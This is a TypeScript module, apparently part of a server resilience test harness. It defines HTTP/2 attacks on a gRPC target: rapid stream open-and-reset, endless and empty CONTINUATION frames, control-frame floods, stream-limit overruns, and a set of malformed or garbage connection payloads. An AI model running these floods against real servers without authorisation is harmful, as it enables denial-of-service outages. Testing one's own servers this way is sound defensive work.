import { Buffer } from "node:buffer";
import { randomBytes } from "node:crypto";
import type { Attack } from "../attack.ts";
import { callHeaders, CODE, FLAG, FRAME, frameBytes, uint32 } from "../../support/http2_wire.ts";
import { grpcConnection, PREFACE, UNARY } from "./http2_connection.ts";

const CONTINUATION = 9;
const none = Buffer.alloc(0);
const headers = callHeaders(UNARY);
const many = (count: number, frame: Buffer) => Buffer.concat(new Array<Buffer>(count).fill(frame));
const open = (id: number) => frameBytes(FRAME.HEADERS, headers, FLAG.END_HEADERS, id);

/** What is sent again and again on one connection; `first` begins it. */
interface Flood {
  name: string;
  first?: Buffer;
  piece(round: number): Buffer;
}

const FLOODS: readonly Flood[] = [
  {
    name: "streams opened and reset",
    piece: (round) =>
      Buffer.concat(Array.from({ length: 500 }, (_, i) => {
        const id = 2 * (500 * round + i) + 1;
        return Buffer.concat([open(id), frameBytes(FRAME.RST_STREAM, uint32(CODE.CANCEL), 0, id)]);
      })),
  },
  {
    name: "headers that go on without end",
    first: frameBytes(FRAME.HEADERS, headers, 0, 1),
    piece: () => many(20, frameBytes(CONTINUATION, Buffer.alloc(4000, "a"), 0, 1)),
  },
  {
    name: "empty continuations",
    first: frameBytes(FRAME.HEADERS, headers, 0, 1),
    piece: () => many(2000, frameBytes(CONTINUATION, none, 0, 1)),
  },
  { name: "settings", piece: () => many(1000, frameBytes(FRAME.SETTINGS, none)) },
  { name: "pings", piece: () => many(1000, frameBytes(FRAME.PING, Buffer.alloc(8))) },
  {
    name: "window updates",
    piece: () => many(1000, frameBytes(FRAME.WINDOW_UPDATE, uint32(1))),
  },
  {
    name: "priorities",
    piece: () =>
      Buffer.concat(
        Array.from({ length: 1000 }, (_, i) =>
          frameBytes(FRAME.PRIORITY, Buffer.of(0, 0, 0, 0, 16), 0, 2 * i + 1)),
      ),
  },
  {
    name: "empty data",
    first: open(1),
    piece: () => many(1000, frameBytes(FRAME.DATA, none, 0, 1)),
  },
  {
    name: "more streams than are allowed",
    piece: (round) =>
      Buffer.concat(Array.from({ length: 500 }, (_, i) => open(2 * (500 * round + i) + 1))),
  },
];

/** Floods of frames, one kind after the other, from a client that reads nothing. */
export const grpcFrameFloods: Attack = {
  name: "grpc: floods of HTTP/2 frames",
  protocol: "grpc",
  seconds: { small: 5, full: 90 },
  async run(attacker) {
    for (const { name, first, piece } of FLOODS) {
      const until = performance.now() + (attacker.full ? 10_000 : 600);
      const socket = await grpcConnection(attacker, {}, { deaf: true });
      if (first) await socket.write(first);
      let goesOn = true;
      for (let round = 0; goesOn && performance.now() < until; round++) {
        const timer = setTimeout(() => socket.close(), until - performance.now());
        goesOn = await socket.write(piece(round));
        clearTimeout(timer);
      }
      attacker.count(`${name}: ${socket.endedByServer ? "ended" : "borne"}`);
      socket.close();
    }
  },
};

/** Connections that begin with what is no HTTP/2, or end in the midst of it. */
export const grpcGarbage: Attack = {
  name: "grpc: garbage",
  protocol: "grpc",
  seconds: { small: 1.5, full: 20 },
  async run(attacker) {
    const frames = frameBytes(FRAME.SETTINGS, none);
    const all: readonly Uint8Array[] = [
      randomBytes(100_000),
      Buffer.from("GET / HTTP/1.1\r\nhost: x\r\n\r\n"),
      Buffer.concat([PREFACE, randomBytes(5000)]),
      Buffer.concat([PREFACE, frames, Buffer.of(0xff, 0xff, 0xff, 0, 0, 0, 0, 0, 1)]),
      Buffer.concat([PREFACE, frames, open(0)]),
      Buffer.concat([PREFACE, frames, open(2)]),
      Buffer.concat([PREFACE, frames, many(1000, frameBytes(FRAME.GOAWAY, Buffer.alloc(8)))]),
      Buffer.concat([
        PREFACE,
        frames,
        frameBytes(FRAME.WINDOW_UPDATE, uint32(0x7fffffff)),
        open(1),
      ]),
      PREFACE.subarray(0, 10),
      Buffer.concat([
        PREFACE,
        frames,
        open(1),
        frameBytes(FRAME.DATA, Buffer.of(0, 255, 255, 255, 255, 1), FLAG.END_STREAM, 1),
      ]),
      Buffer.concat([
        PREFACE,
        frames,
        frameBytes(
          FRAME.HEADERS,
          Buffer.concat([
            Buffer.of(0x40, 1, 97, 0x7f, 0xe1, 0x1e),
            Buffer.alloc(4000, "b"),
            Buffer.alloc(12_000, 0xbe),
          ]),
          FLAG.END_HEADERS,
          1,
        ),
      ]),
    ];
    for (let round = 0; !attacker.signal.aborted; round++) {
      const socket = await attacker.connect(attacker.target.grpc);
      await socket.write(all[round % all.length]!);
      await attacker.pause(20);
      attacker.count(socket.endedByServer ? "ended" : "waits");
      socket.close();
    }
  },
};
